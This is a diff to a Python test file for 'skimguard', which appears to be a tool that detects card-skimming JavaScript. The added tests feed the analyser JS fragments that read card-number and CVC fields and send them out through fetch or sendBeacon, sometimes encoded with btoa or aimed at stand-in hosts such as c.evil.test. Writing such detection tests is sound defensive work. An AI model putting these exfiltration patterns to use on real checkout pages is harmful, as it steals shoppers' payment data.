@@ -23,6 +23,7 @@ from skimguard.analyze.structure import (
 )
 from skimguard.demo import shop
 from skimguard.models import Confidence, Severity
+from skimguard.testing import skimmers
 
 FIXTURES = Path(__file__).parent / "fixtures" / "structure"
 
@@ -488,6 +489,21 @@ def test_twenty_thousand_nested_functions(monkeypatch: pytest.MonkeyPatch) -> No
     assert hits[0].line == 1
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "fetch(u)" + ".then(f)" * 5000 + "; x.value",
+        "a" + ".b()" * 5000 + "; fetch(x.value)",
+        "var x = new XMLHttpRequest(); " + "x.onload = function () {};" * 3000 + " x.open('POST', u); q.value",
+    ],
+)
+def test_long_call_chains_stay_bounded(text: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    generous_limits(monkeypatch)
+    report = js_traits(text)
+    assert report.parsed and report.error is None
+    assert report.trait_names == {"network-sink", "computed-url"}
+
+
 def test_deep_string_concatenation_stays_bounded() -> None:
     text = "var u = " + " + ".join(["'a'"] * 20000) + "; fetch(u, x.value);"
     report = js_traits(text)
@@ -556,6 +572,8 @@ def test_card_read_through_an_element_helper() -> None:
         "function v(n){return form.elements.namedItem(n).value} post(v('card_cvc'))",
         "var K=['#x','#cc_number']; function v(q){return document.querySelector(q).value} post(v(K[1]))",
         "var SEL='#cvv'; function v(q){return document.querySelector(q).value} post(v(SEL))",
+        "var S={n:'#cc_number'}; function v(q){return document.querySelector(q).value} post(v(S.n))",
+        "var S={'n':'#x','c':'#cc_cid'}; function v(q){return document.querySelector(q).value} post(v(S['c']))",
         "function g(el){return el.value} post(g(document.getElementById('cc_number')))",
         "const g = el => el.value; post(g($('#cc_number')[0]))",
         "function g(el){return $(el).val()} var f=document.querySelector('#cc_cid'); post(g(f))",
@@ -622,6 +640,17 @@ def test_demo_checkout_tokeniser_is_only_informational() -> None:
     assert hits[0].excerpt.startswith('fetch(TOKEN_URL, {method: "POST"')
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        skimmers._fill(skimmers.PAY_JS, port=1, processing_ms=9),  # the skimmer lab's own checkout
+        skimmers.case_script("benign-psp-fields", 1),  # the PSP's script: v('[autocomplete=cc-number]') on click
+    ],
+)
+def test_lab_tokenisers_are_only_informational(text: str) -> None:
+    assert [(h.rule_id, h.severity) for h in structure_hits(text)] == [("SG445", Severity.LOW)]
+
+
 def test_tokeniser_with_a_configured_url_is_only_informational() -> None:
     hits = structure_hits(fixture("tokenizer.js"))
     assert [(h.rule_id, h.severity, h.line) for h in hits] == [("SG445", Severity.LOW, 11)]
@@ -634,10 +663,15 @@ FALLBACK = " || 'https://tokens.psp.test/v2/cards'"
 @pytest.mark.parametrize(
     ("old", "new", "expected"),
     [
-        # the same tokeniser, one thing different each time: still convicted at high or critical
-        (CONFIGURED + " || ", "", ("SG440", Severity.HIGH)),  # only a literal URL
+        # the same tokeniser, one thing different each time: convicted at high or critical
         ("fetch(endpoint,", "setTimeout(function(){}, 9); fetch(endpoint,", ("SG440", Severity.HIGH)),
+        ("fetch(endpoint,", "fetch(endpoint + '?c=' + card.pan,", ("SG440", Severity.HIGH)),  # a built URL
         ("JSON.stringify(card)", "encodeURIComponent(JSON.stringify(card))", ("SG440", Severity.HIGH)),
+        (
+            "document.getElementById('checkout-form').addEventListener('submit', ",
+            "setInterval(",
+            ("SG440", Severity.HIGH),
+        ),
         ("JSON.stringify(card)", "btoa(JSON.stringify(card))", ("SG440", Severity.CRITICAL)),
         ("(window.PAY_CONFIG || {})", "{tokenEndpoint: 'https://c.evil.test/'}", ("SG440", Severity.HIGH)),
         (CONFIGURED, "window.location.href", ("SG440", Severity.HIGH)),
@@ -648,7 +682,21 @@ FALLBACK = " || 'https://tokens.psp.test/v2/cards'"
             "window.PAY_CONFIG = {tokenEndpoint: '//c.evil.test/'}; var endpoint",
             ("SG440", Severity.HIGH),
         ),
+        ("var card = { pan", "var card = new FormData(ev.target), c = { pan", ("SG440", Severity.HIGH)),
+        (  # no response to use: not a tokeniser
+            "fetch(endpoint, { method: 'POST', body: JSON.stringify(card) })",
+            "navigator.sendBeacon(endpoint, JSON.stringify(card))",
+            ("SG440", Severity.HIGH),
+        ),
+        ("exp: field('card_exp')", "exp: field('card_exp'), mail: field('billing_email')", ("SG440", Severity.HIGH)),
         # ... or still a tokeniser
+        ("exp: field('card_exp')", "exp: field('card_exp'), zip: field('billing_postcode')", ("SG445", Severity.LOW)),
+        (CONFIGURED + " || ", "", ("SG445", Severity.LOW)),  # a plain literal URL
+        (
+            "return r.json();",
+            "setTimeout(function () { location.href = '/done?t=' + encodeURIComponent(r.id); }, 9);",
+            ("SG445", Severity.LOW),
+        ),  # after the response
         ("var endpoint", "var cfg = window.PAY_CONFIG || {}; var endpoint", ("SG445", Severity.LOW)),
         (CONFIGURED + FALLBACK, "this.options.url", ("SG445", Severity.LOW)),
         (FALLBACK, "", ("SG445", Severity.LOW)),
